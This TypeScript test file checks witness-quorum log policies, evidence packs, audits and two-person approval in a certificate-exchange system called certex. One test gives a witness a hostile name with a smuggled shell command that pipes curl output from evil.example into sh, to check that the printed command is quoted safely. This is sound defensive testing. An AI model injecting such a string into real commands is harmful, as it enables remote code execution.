import { createServer, type Server } from 'node:http'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { EvidencePack } from '../../src/exchange/evidence/pack.ts'
import { readLogPolicy } from '../../src/exchange/log/policy.ts'
import type { ApiClient } from '../../src/node/api-client.ts'
import { formatVerifierKey } from '../../src/tlog/verifier-key.ts'
import { type OpenDatabase, sqliteEngine } from '../contract/storage-engines.ts'
import { decisionAt, issue, type Issued } from '../support/changes.ts'
import { certex, words } from '../support/cli.ts'
import { judgePack, packOf, rootOf } from '../support/evidence.ts'
import { noteSigner } from '../support/log-world.ts'
import {
  eventually,
  freePort,
  prepareTwoStates,
  startTestNode,
  type TestNode,
} from '../support/two-nodes.ts'
import { genuineWitness } from '../support/witnessed-node.ts'

const neutral = noteSigner('witness.example/w1', 'cosignature/v1')

let folder: string
let policyFile: string
let policyText: string
let BY: TestNode
let UZ: TestNode
let chamber: ApiClient
let auditor: Awaited<ReturnType<TestNode['client']>>
let certificate: Issued
let witness: { server: Server; database: OpenDatabase; isUp: boolean; asked: number }

/** A witness of nobody's state: its program is that of a node, its database its own. */
async function startNeutral(
  port: number,
  log: Awaited<ReturnType<TestNode['running']['deps']['logSigner']>>,
) {
  const database = await sqliteEngine().open()
  const answer = genuineWitness(database.database, { log, signer: neutral }, () => new Date())
  const made = { server: createServer(), database, isUp: false, asked: 0 }
  made.server.on('request', (request, response) => {
    void (async () => {
      made.asked++
      const chunks: Buffer[] = []
      for await (const chunk of request) chunks.push(chunk as Buffer)
      if (!made.isUp) return response.writeHead(503).end()
      const { status, text } = await answer(String(Buffer.concat(chunks))).then(async (given) => ({
        status: given.status,
        text: await given.text(),
      }))
      return response.writeHead(status).end(text)
    })()
  })
  await new Promise<void>((resolve) => made.server.listen(port, '127.0.0.1', resolve))
  return made
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'certex-policy-'))
  const prepared = await prepareTwoStates(folder)
  UZ = await startTestNode(prepared.UZ)
  const { key: uz } = await UZ.running.deps.witnessSigner()
  const port = await freePort()
  const key = formatVerifierKey(neutral.key)
  policyText = `# Both, or it is not complete
witness uz ${formatVerifierKey(uz)}
witness neutral ${key} http://127.0.0.1:${port}
group both all uz neutral
quorum both
`
  const { configFile } = prepared.BY
  policyFile = join(prepared.BY.data, 'log.policy')
  await writeFile(policyFile, policyText)
  const config = JSON.parse(await readFile(configFile, 'utf8')) as Record<string, unknown>
  const witnesses = [{ name: 'neutral', key, url: `http://127.0.0.1:${port}` }]
  await writeFile(configFile, JSON.stringify({ ...config, witnesses, logPolicyFile: policyFile }))
  BY = await startTestNode(prepared.BY)
  witness = await startNeutral(port, await BY.running.deps.logSigner())
  await eventually('the nodes have met', () => haveMet(BY))
  chamber = await BY.client('issuer', 'BY.CCI')
  auditor = await BY.client('auditor', 'BY.AUDIT')
  certificate = await issue(chamber, 'origin-ct1-tractors', ['UZ'])
  await decisionAt(BY, 'UZ', certificate.sha256)
})
afterAll(async () => {
  await Promise.all([BY, UZ].map(({ running }) => running.stop()))
  witness.server.closeAllConnections()
  await new Promise((resolve) => witness.server.close(resolve))
  await witness.database.close()
  await rm(folder, { recursive: true, force: true })
})

const haveMet = async ({ running }: TestNode) => (await running.deps.peers.all())[0]?.trustCheckedAt

const roots = () => [rootOf(BY), rootOf(UZ)]
const policy = (text: string) => {
  const read = readLogPolicy(new TextEncoder().encode(text))
  if ('malformed' in read) throw new Error(read.malformed)
  return read
}
const verdict = async (pack: EvidencePack, text?: string) => {
  const given = text === undefined ? undefined : policy(text)
  const { report } = await judgePack(pack, roots(), { policy: given })
  return report
}
const proofOf = (digest: string) => auditor.api.getLogProof({ params: { digest } })

describe('a node whose policy needs the other state and a neutral witness', () => {
  let incomplete: EvidencePack

  it('gives evidence without the neutral one, and says that it is the one missing', async () => {
    incomplete = await eventually('the other state has cosigned', async () => {
      const pack = await packOf(auditor, BY, certificate)
      return pack.document.proof?.includes('exchange.uz/witness/1') ? pack : undefined
    })
    expect(incomplete).toMatchObject({
      complete: false,
      missing: [
        {
          what: 'quorum',
          subject: certificate.sha256,
          detail: 'both (1 of 2, without neutral)',
        },
      ],
      policy: { log: policyText.split('\n').slice(1).join('\n') },
    })
    const proof = await proofOf(certificate.sha256)
    expect(proof.headers.get('Certex-Witnessed')).toBe('false')
    expect(witness.asked).toBeGreaterThan(0)
    const { id, privateJwk } = auditor
    const key = join(folder, 'auditor.jwk')
    await writeFile(key, JSON.stringify(privateJwk))
    const named = words`--state BY --type ${certificate.type} --number ${certificate.number}`
    const client = words`--node ${BY.url} --client ${id} --key ${key} --out ${join(folder, 'p.json')}`
    const { stderr } = await certex(['evidence', ...named, ...client])
    expect(stderr).toContain(`quorum ${certificate.sha256}: both (1 of 2, without neutral)`)
    // Whoever fetches may need others than the node does.
    const byPolicy = (file: string) => certex(['evidence', ...named, ...client, '--policy', file])
    expect(await byPolicy(policyFile)).toMatchObject({
      code: 3,
      stderr: expect.stringContaining('by --policy the pack lacks: quorum') as string,
    })
    const lesser = join(folder, 'lesser.policy')
    await writeFile(lesser, policyText.replace('quorum both', 'quorum uz'))
    const enough = await byPolicy(lesser)
    expect(enough.code, enough.stderr).toBe(0)
    expect(enough.stderr).not.toContain('by --policy')

    // Which witnesses are enough is for the verifier to say.
    expect(await verdict(incomplete, policyText)).toMatchObject({
      answer: 'cannot-tell',
      reasons: ['witness-quorum-missing'],
    })
    const { checks } = await verdict(incomplete, policyText)
    expect(checks.find(({ code }) => code === 'witness-quorum-missing')!.detail).toBe(
      'both (1 of 2, without neutral)',
    )
    expect(await verdict(incomplete)).toMatchObject({ answer: 'usable' })
  })

  it('completes it when the neutral one cosigns, at the time of the later of the two', async () => {
    witness.isUp = true
    const pack = await eventually('the quorum is reached', async () => {
      const some = await packOf(auditor, BY, certificate)
      return some.complete ? some : undefined
    })
    expect(pack).toMatchObject({ missing: [] })
    const report = await verdict(pack, policyText)
    expect(report).toMatchObject({ answer: 'usable', evidence: { pack: { complete: true } } })
    expect(report.provenBy).toMatchObject({ by: 'witness', log: 'BY' })
    expect((await proofOf(certificate.sha256)).headers.get('Certex-Witnessed')).toBe('true')
    // By the witness of the other state alone it is proven for the earlier moment, at the latest then.
    const { instants } = await verdict(pack)
    expect(instants.proven! <= report.instants.proven!).toBe(true)
    await writeFile(join(folder, 'pack.json'), JSON.stringify(pack))
  })

  it('prints its policy, by which certex validate judges', async () => {
    const printed = await certex(['log', 'policy', '--config', BY.configFile])
    expect(printed, printed.stderr).toMatchObject({ code: 0 })
    expect(printed.stdout).toContain('# The log of BY, by logPolicyFile\n')
    expect(policy(printed.stdout)).toEqual(policy(policyText))
    const file = join(folder, 'printed.policy')
    await writeFile(file, printed.stdout)
    const anchors = roots().flatMap(({ state, rootSha256 }) => [
      '--anchor',
      `${state}=${hex(rootSha256)}`,
    ])
    const judge = (...more: string[]) =>
      certex(['validate', join(folder, 'pack.json'), ...anchors, ...more])
    expect(await judge('--policy', file)).toMatchObject({ code: 0 })
    await writeFile(file, printed.stdout.replace('group both all', 'group both 3'))
    const refused = await judge('--policy', file)
    expect(refused.code).toBe(2)
    expect(refused.stderr).toContain('line 4: not all, any, or a number from 1 to 2')
  })

  it('lets an audit ask whether the quorum has cosigned, and knows the keys by it', async () => {
    const database = ['--database', join(BY.data, 'node.sqlite'), '--json']
    const judged = async (...more: string[]) => {
      const { stdout, stderr } = await certex(['audit', ...database, ...more])
      expect(stdout, stderr).not.toBe('')
      const { findings } = JSON.parse(stdout) as { findings: { code: string; where: string }[] }
      // Clients of this test were registered without an act.
      return [...new Set(findings.map(({ code }) => code))].filter(
        (code) => code !== 'record-differs',
      )
    }
    expect(await judged('--policy', policyFile)).toEqual([])
    // Nobody here knows the key of the neutral one.
    expect(await judged()).toEqual(['signature-undecided'])
  })

  it('has two persons set aside what a witness claims, at the command line and over HTTP', async () => {
    witness.isUp = false
    const { log } = BY.running.deps
    const { name, keyId } = neutral.key
    const key = `${name}+${keyId.toString(16).padStart(8, '0')}`
    const setAside = (as: string) =>
      certex(['log', 'set-aside', '--config', BY.configFile, '--witness', name, '--as', as])
    expect(await setAside('Anna')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('contradicts the own log; those that do: none'),
    })
    const at = new Date().toISOString().replace(/\.\d+/, '')
    await log.contradict({ state: '', name, keyId }, 999n, at)
    const proposed = await setAside('Anna')
    expect(proposed.stdout).toContain(
      `certex trust approve --config ${BY.configFile} --as <NAME> --state BY --witness ${key}`,
    )

    const authority = await BY.client('authority', 'BY.STATE')
    const { body: open } = await authority.get('/v1/trust/decisions')
    const { proposals } = open as { proposals: { kind: string; subject: string }[] }
    expect(proposals).toMatchObject([{ kind: 'witness', state: 'BY' }])
    expect(proposals[0]!.subject).toMatch(/^witness\.example\/w1\+[0-9a-f]{8}@\S+$/)
    const approve = (as: string) =>
      certex(words`trust approve --config ${BY.configFile} --state BY --witness ${key} --as ${as}`)
    expect((await approve('Anna')).stderr).toContain('another person must')
    expect(await log.doubt()).toBeDefined()

    // A peer names its witnesses as it likes; the line for the second person is one command all the same.
    const hostile = 'uz.example/w;curl${IFS}evil.example|sh'
    await log.contradict({ state: '', name: hostile, keyId }, 999n, at)
    const about = ['--config', BY.configFile, '--witness']
    const line = await certex(['log', 'set-aside', ...about, hostile, '--as', 'Anna'])
    const full = key.replace(name, hostile)
    expect(line.stdout).toContain(`--state BY --witness '${full}'`)
    expect(line.stdout).toContain(`the claim of “${full}” to have`)
    const boris = ['--state', 'BY', '--as', 'Boris']
    expect(await certex(['trust', 'approve', ...about, full, ...boris])).toMatchObject({ code: 0 })

    const question = { kind: 'witness', state: 'BY', subject: proposals[0]!.subject }
    expect((await authority.post('/v1/admin/trust-approvals', question)).status).toBe(201)
    await eventually('the log is signed again', async () => (await log.doubt()) === undefined)
    const acts = await certex(['admin-acts', '--config', BY.configFile])
    expect(acts.stdout).toContain('witness-set-aside')
    expect(acts.stdout).toContain(key)
  })

  it('has a peer whose policy follows from the trust lists', async () => {
    const printed = await certex(['log', 'policy', '--config', UZ.configFile, '--json'])
    const { by, policy: text } = JSON.parse(printed.stdout) as { by: string; policy: string }
    expect(by).toBe('trust-lists')
    expect(policy(text)).toMatchObject({
      quorum: 'BY',
      logs: [{ key: { name: 'exchange.uz/log/1' } }],
    })
  })

  it.each([
    ['quorum both\n', 'logPolicyFile: ', 'line 1: no line before it defines "both"'],
    ['quorum none\n', 'logPolicyFile: ', 'evidence needs a witness'],
  ])('is not started with a policy that is wrong: %j', async (text, setting, told) => {
    const file = join(folder, 'wrong.policy')
    await writeFile(file, text)
    const config = JSON.parse(await readFile(BY.configFile, 'utf8')) as Record<string, unknown>
    const wrong = join(BY.data, 'wrong.json')
    await writeFile(wrong, JSON.stringify({ ...config, logPolicyFile: file }))
    const { code, stderr } = await certex(['config', 'check', '--config', wrong])
    expect([code, stderr]).toEqual([1, expect.stringContaining(setting)])
    expect(stderr).toContain(told)
  })

  it('names no witness without TLS, none twice, none by a key of another kind', async () => {
    const config = JSON.parse(await readFile(BY.configFile, 'utf8')) as { witnesses: object[] }
    const [one] = config.witnesses as { name: string; key: string; url: string }[]
    const key = one!.key.replace('+', '+0')
    const wrong = join(BY.data, 'wrong.json')
    const witnesses = [one, { ...one, name: 'second' }, { ...one, name: 'UZ', key }]
    await writeFile(wrong, JSON.stringify({ ...config, allowHttpPeers: false, witnesses }))
    const { stderr } = await certex(['config', 'check', '--config', wrong])
    expect(stderr).toContain('witnesses.2.name: small letters')
    expect(stderr).toContain('witnesses.2.key: a C2SP verifier key of type 04')
    await writeFile(
      wrong,
      JSON.stringify({ ...config, allowHttpPeers: false, witnesses: witnesses.slice(0, 2) }),
    )
    const more = await certex(['config', 'check', '--config', wrong])
    expect(more.stderr).toContain(
      'witnesses.0.url: https, unless allowHttpPeers permits plain http',
    )
    expect(more.stderr).toContain('witnesses.1: second or its key is named twice')
  })
})

const hex = (base64url: string) => Buffer.from(base64url, 'base64url').toString('hex')
